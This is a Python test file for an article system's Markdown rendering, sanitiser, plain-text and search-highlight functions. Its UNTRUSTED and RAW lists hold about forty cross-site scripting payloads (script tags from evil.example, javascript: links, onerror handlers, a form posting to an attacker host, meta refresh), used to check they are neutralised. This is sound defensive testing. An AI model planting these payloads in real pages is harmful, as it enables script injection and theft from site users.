"""An article's Markdown as rich-text HTML: untrusted text is rendered harmless, everything an editor means to
write comes through, images are only our uploads; plain text and highlighted search snippets."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from backend.articles.rendering import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    IMAGE_PATH,
    excerpt,
    foreign_images,
    highlight,
    image_markdown,
    plain_text,
    render_html,
    sanitise,
    upload_ids,
)

UPLOAD = "0123456789abcdef0123456789abcdef"
OUR_IMAGE = f"{IMAGE_PATH}{UPLOAD}"


class Elements(HTMLParser):
    """Every element of an HTML fragment with its attributes, as a browser's parser would see them."""

    def __init__(self, fragment: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def assert_harmless(html: str, images: set[str] = frozenset()) -> Elements:
    """Only rich-text's tags and attributes; links to http(s) only; images only from `images`."""
    parsed = Elements(html)
    for tag, attrs in parsed.found:
        assert tag in ALLOWED_TAGS, (tag, html)
        assert set(attrs) <= ALLOWED_ATTRIBUTES.get(tag, set()), (tag, attrs, html)
        if tag == "a" and "href" in attrs:
            assert (attrs["href"] or "").lower().startswith(("http://", "https://")), html
        if tag == "img" and "src" in attrs:  # an <img> left without its address shows nothing
            assert attrs["src"] in images, html
    assert parsed.comments == [], html
    return parsed


# (what an attacker types, what must not survive in any form a browser would act on)
UNTRUSTED = [
    ("<script>alert(1)</script>", "script tag"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "script src"),
    ("<scr<script>ipt>alert(1)</script>", "nested script"),
    ("[点我](javascript:alert(1))", "javascript link"),
    ("[点我](JaVaScRiPt:alert(1))", "javascript link in mixed case"),
    ("[点我](&#106;avascript:alert(1))", "javascript link as an entity"),
    ("[点我](java\tscript:alert(1))", "javascript link with a tab"),
    ("[点我](vbscript:msgbox(1))", "vbscript link"),
    ("[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "data link"),
    ("<javascript:alert(1)>", "javascript autolink"),
    ("[点我][x]\n\n[x]: javascript:alert(1)", "javascript reference link"),
    ('<a href="javascript:alert(1)">点我</a>', "raw html link"),
    ("<img src=x onerror=alert(1)>", "event handler on a raw image"),
    ('<p onmouseover="alert(1)">悬停</p>', "event handler on a paragraph"),
    ("![x](javascript:alert(1))", "javascript image"),
    ("![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "svg data image"),
    ("![x](https://evil.example/track.png)", "image from elsewhere"),
    ('[x](https://ok.example/"onmouseover="alert(1))', "quotes breaking out of href"),
    ('![x](https://ok.example/a.png"onerror="alert(1))', "quotes breaking out of src"),
    ("<style>body{display:none}</style>", "style tag"),
    ('<div style="position:fixed;top:0">盖住页面</div>', "style attribute"),
    ('<span style="background:url(javascript:alert(1))">x</span>', "style url"),
    ('<iframe src="https://evil.example"></iframe>', "iframe"),
    ('<svg onload="alert(1)"><circle r="9"/></svg>', "svg onload"),
    ("<svg><script>alert(1)</script></svg>", "script inside svg"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mathml confusion"),
    ('<object data="x.swf"></object><embed src="x.swf">', "object and embed"),
    ('<form action="https://evil.example"><input name="pw"></form>', "form"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "meta refresh"),
    ("<!-- <img src=x onerror=alert(1)> -->", "comment"),
    ('<a href="https://ok.example" target="_blank" class="x" id="y">x</a>', "extra attributes on a link"),
    ("```html\n<script>alert(1)</script>\n```", "script in a code block"),
    ("`<img src=x onerror=alert(1)>`", "image in inline code"),
]


@pytest.mark.parametrize("markdown, why", UNTRUSTED, ids=[why for _, why in UNTRUSTED])
def test_untrusted_markdown_is_rendered_harmless(markdown: str, why: str) -> None:
    html = render_html(markdown)
    assert_harmless(html)  # whatever is left of it is text, shown as typed


# raw HTML given straight to the sanitiser (what it would do if the parser ever let something through)
RAW = [
    '<a href="javascript:alert(1)" onclick="x()" style="color:red">t</a>',
    '<img src="https://evil.example/x.png" onerror="alert(1)">',
    '<img src="data:image/png;base64,AAAA">',
    '<a href="//evil.example/x">protocol-relative</a>',
    '<a href="/console/users">relative</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div><style>@import "https://evil.example/x.css";</style></div>',
    '<img src="x" width="99999999" height="-1">',
]


@pytest.mark.parametrize("fragment", RAW)
def test_the_sanitiser_alone_keeps_only_rich_text(fragment: str) -> None:
    assert_harmless(sanitise(fragment))


def test_the_sanitiser_drops_script_and_style_content() -> None:
    assert "alert" not in sanitise("<p>a</p><script>alert(1)</script><style>p{}</style>")


WANTED = [
    ("## 小标题", "<h2>小标题</h2>"),
    ("**加粗** 和 *强调*", "<strong>加粗</strong> 和 <em>强调</em>"),
    ("~~删除~~", "<del>删除</del>"),
    ("- 一\n- 二", "<ul>\n<li>一</li>\n<li>二</li>\n</ul>"),
    ("1. 一\n2. 二", "<ol>\n<li>一</li>\n<li>二</li>\n</ol>"),
    ("> 引用", "<blockquote>\n<p>引用</p>\n</blockquote>"),
    ("`代码`", "<code>代码</code>"),
    ("---", "<hr>"),
    (
        "[12345 热线](https://12345.sh.gov.cn/a?b=1&c=2)",
        '<a href="https://12345.sh.gov.cn/a?b=1&amp;c=2">12345 热线</a>',
    ),
    ("第一行  \n第二行", "第一行<br>\n第二行"),
]


@pytest.mark.parametrize("markdown, expected", WANTED)
def test_what_an_editor_writes_comes_through(markdown: str, expected: str) -> None:
    html = render_html(markdown)
    assert expected in html
    assert_harmless(html)


def test_tables_are_on_and_lose_their_inline_alignment_styles() -> None:
    html = render_html("| 行为 | 依据 |\n|:--|--:|\n| 搭阳光房 | 第七条 |")
    parsed = assert_harmless(html)
    assert [tag for tag, _ in parsed.found] == ["table", "thead", "tr", "th", "th", "tbody", "tr", "td", "td"]
    assert "style" not in html and "<td>搭阳光房</td>" in html


def test_our_images_are_shown_from_the_address_the_page_gives() -> None:
    markdown = f"开头\n\n![阳光房]({OUR_IMAGE})\n\n![外来](https://evil.example/x.png)"
    public = render_html(markdown)
    assert f'<img src="{OUR_IMAGE}" alt="阳光房">' in public
    assert "evil.example" not in public and "[图片：外来]" in public
    console = render_html(markdown, image_url=lambda upload_id: f"/console/articles/images/{upload_id}")
    assert_harmless(console, {f"/console/articles/images/{UPLOAD}"})
    assert f'src="/console/articles/images/{UPLOAD}"' in console


def test_the_images_of_a_text_are_told_apart() -> None:
    markdown = f"![a]({OUR_IMAGE}) ![b](https://x.example/b.png) ![c]({OUR_IMAGE})"
    assert upload_ids(markdown) == [UPLOAD]
    assert foreign_images(markdown) == ["https://x.example/b.png"]
    assert upload_ids(image_markdown(UPLOAD, "说[明]")) == [UPLOAD]
    assert image_markdown(UPLOAD, "") == f"![图片]({OUR_IMAGE})"


def test_plain_text_has_the_words_without_the_markup() -> None:
    markdown = (
        "# 阳光房\n\n楼顶**不能**搭[阳光房](https://x.example)。\n\n- 第一\n- 第二\n\n"
        "| 行为 | 依据 |\n|--|--|\n| 搭建 | 第七条 |\n\n![现场照片](x.png)\n\n<script>alert(1)</script>"
    )
    text = plain_text(markdown)
    assert text.splitlines()[:4] == ["阳光房", "楼顶不能搭阳光房。", "第一", "第二"]
    assert "行为 依据" in text and "搭建 第七条" in text and "现场照片" in text
    assert "**" not in text and "https://" not in text and "|" not in text
    assert "<script>alert(1)</script>" in text  # as words: plain text is never HTML


def test_highlight_escapes_everything_but_its_own_em() -> None:
    html = highlight('楼顶<b onclick="x">阳光房</b>，阳光 & ABC abc', ["阳光房", "阳光", "abc"])
    assert html == (
        '楼顶&lt;b onclick="x"&gt;<em>阳光房</em>&lt;/b&gt;，<em>阳光</em> &amp; <em>ABC</em> <em>abc</em>'
    )
    assert [tag for tag, _ in Elements(html).found] == ["em"] * 4
    assert highlight("<i>x</i>", []) == "&lt;i&gt;x&lt;/i&gt;"


def test_an_excerpt_is_cut_around_the_first_match() -> None:
    text = "甲" * 100 + "阳光房" + "乙" * 100
    cut = excerpt(text, ["阳光房"], width=40)
    assert cut.startswith("…") and cut.endswith("…") and "阳光房" in cut
    assert len(cut) == 42
    assert excerpt("短文", ["无"]) == "短文"
